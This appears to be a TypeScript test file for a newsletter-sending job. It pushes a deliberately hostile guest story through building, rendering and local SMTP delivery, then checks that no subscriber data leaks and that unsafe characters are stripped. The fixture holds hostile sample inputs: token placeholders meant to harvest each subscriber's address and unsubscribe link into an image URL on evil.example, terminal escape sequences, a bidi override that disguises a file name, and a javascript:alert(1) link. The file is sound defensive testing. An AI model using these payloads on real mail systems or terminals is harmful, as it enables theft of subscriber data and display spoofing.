// A story written by an attacker (a guest author, a compromised plugin, a hostile feed) goes through the
// real job: sources -> selection -> rendering -> SMTP to a server on 127.0.0.1, read back with mailparser.
// It tries to harvest each subscriber's address and unsubscribe link with the token syntax, and to reach
// the email and the terminal with control characters and bidi overrides.
import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { simpleParser } from 'mailparser';
import { afterEach, describe, expect, it } from 'vitest';
import { buildIssue } from '../../src/job/build-issue.js';
import { freezeBuilt } from '../../src/job/freeze-built.js';
import { sendSnapshot } from '../../src/job/send-snapshot.js';
import { openDatabase } from '../../src/store/index.js';
import { startSmtpPeer, type SmtpPeer } from '../deliver/helpers/smtp-peer.js';
import { BIN, makeJobSite, SUBSCRIBERS, WEEK, type JobSite } from '../job/helpers/job-site.js';
import { sqliteStore } from '../../src/store/sqlite-store.js';

const exec = promisify(execFile);
const NOW = new Date('2026-11-30T07:00:00Z');
const UNSAFE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const HOSTILE = {
  stories: [
    {
      url: 'https://www.identitywire.example/2026/11/25/guest-post/',
      title: 'Guest \u001b[31mpost\u0007 for @@ROUNDUP_EMAIL@@ \u202egnp.exe\u0000',
      excerpt: 'Read @@ROUNDUP_UNSUBSCRIBE_URL@@ and @@ROUNDUP_PREFERENCES_URL@@ now\u009b2J &#27;[1m',
      publishedAt: '2026-11-25T10:00:00+00:00',
      authors: ['Mallory @@ROUNDUP_NAME@@\u2066'],
      categories: ['Opinion'],
      image: { url: 'https://evil.example/p.png?e=@@ROUNDUP_EMAIL@@&u=@@ROUNDUP_UNSUBSCRIBE_URL@@', alt: 'x @@ROUNDUP_EMAIL@@' },
      sticky: true,
    },
    { url: 'javascript:alert(1)\u001b[2J', title: 'Bad link', publishedAt: '2026-11-25T10:00:00+00:00' },
  ],
};

let site: JobSite | undefined;
let peer: SmtpPeer | undefined;
afterEach(async () => {
  await peer?.close();
  site?.cleanup();
  site = peer = undefined;
});

function hostileSite(smtpUrl: string): JobSite {
  let file = '';
  const s = makeJobSite(smtpUrl, (c) => {
    c.content.push({ type: 'json', name: 'guest-posts', path: 'guest.json' });
  });
  file = join(s.dir, 'config', 'guest.json');
  writeFileSync(file, JSON.stringify(HOSTILE));
  return s;
}

const occurrences = (haystack: string, needle: string) => haystack.split(needle).length - 1;

describe('a hostile story through the real job', () => {
  it('harvests nothing: each message carries its reader’s address and links only where the templates put them', async () => {
    peer = await startSmtpPeer();
    site = hostileSite(peer.url);
    const built = await buildIssue({ loaded: site.loaded(), env: site.env(), week: WEEK, now: NOW, write: false });
    const guest = built.digest.sections.flatMap((s) => s.stories).find((s) => s.url.includes('guest-post'));
    expect(guest, 'the guest post is in the issue').toBeDefined();
    const db = openDatabase(site.dbFile);
    try {
      const report = await sendSnapshot({ loaded: site.loaded(), env: site.env(), now: NOW, store: sqliteStore(db), snapshot: freezeBuilt(site.loaded().config, built) });
      expect(report.status).toBe('sent');
    } finally {
      db.close();
    }
    expect(peer.received).toHaveLength(SUBSCRIBERS);
    for (const { rcpt, raw } of peer.received) {
      const mail = await simpleParser(raw);
      const html = String(mail.html);
      const text = mail.text ?? '';
      const unsubscribe = raw.toString('latin1').match(/^List-Unsubscribe: <(https:[^>]+)>/m)![1]!;
      expect(occurrences(html, rcpt), rcpt).toBe(1);
      expect(occurrences(text, rcpt), rcpt).toBe(1);
      expect(occurrences(html, unsubscribe), rcpt).toBe(1);
      expect(occurrences(text, unsubscribe), rcpt).toBe(1);
      for (const src of html.matchAll(/src="([^"]*evil\.example[^"]*)"/g)) {
        expect(src[1]).not.toContain(rcpt.split('@')[0]!);
        expect(src[1]).not.toContain(unsubscribe.split('/u/')[1]!);
      }
      // the attacker's text stays text
      expect(text).toContain('@@ROUNDUP_EMAIL@@');
      // and no control character or bidi override reached either part or the subject
      expect(UNSAFE.test(html.replace(/\r\n/g, '\n')), `html of ${rcpt}`).toBe(false);
      expect(UNSAFE.test(text.replace(/\r\n/g, '\n')), `text of ${rcpt}`).toBe(false);
      expect(UNSAFE.test(mail.subject ?? '')).toBe(false);
    }
  });

  it('roundup build prints no raw control character: what came from outside is shown escaped', async () => {
    peer = await startSmtpPeer();
    site = hostileSite(peer.url);
    const { stdout, stderr } = await exec(process.execPath, [BIN, 'build', '--week', WEEK], { cwd: site.dir, env: { ...process.env, ...site.vars } });
    expect(UNSAFE.test(stdout)).toBe(false);
    expect(UNSAFE.test(stderr)).toBe(false);
    // ESC and BEL removed (the rest of an escape sequence is harmless text), the bidi override dropped
    expect(stdout).toContain('Guest [31mpost for @@ROUNDUP_EMAIL@@ gnp.exe');
    // the skipped item's link is quoted in the summary with its escape shown, not acted on
    expect(stdout).toContain('javascript:alert(1)\\u001b[2J');
  });
});
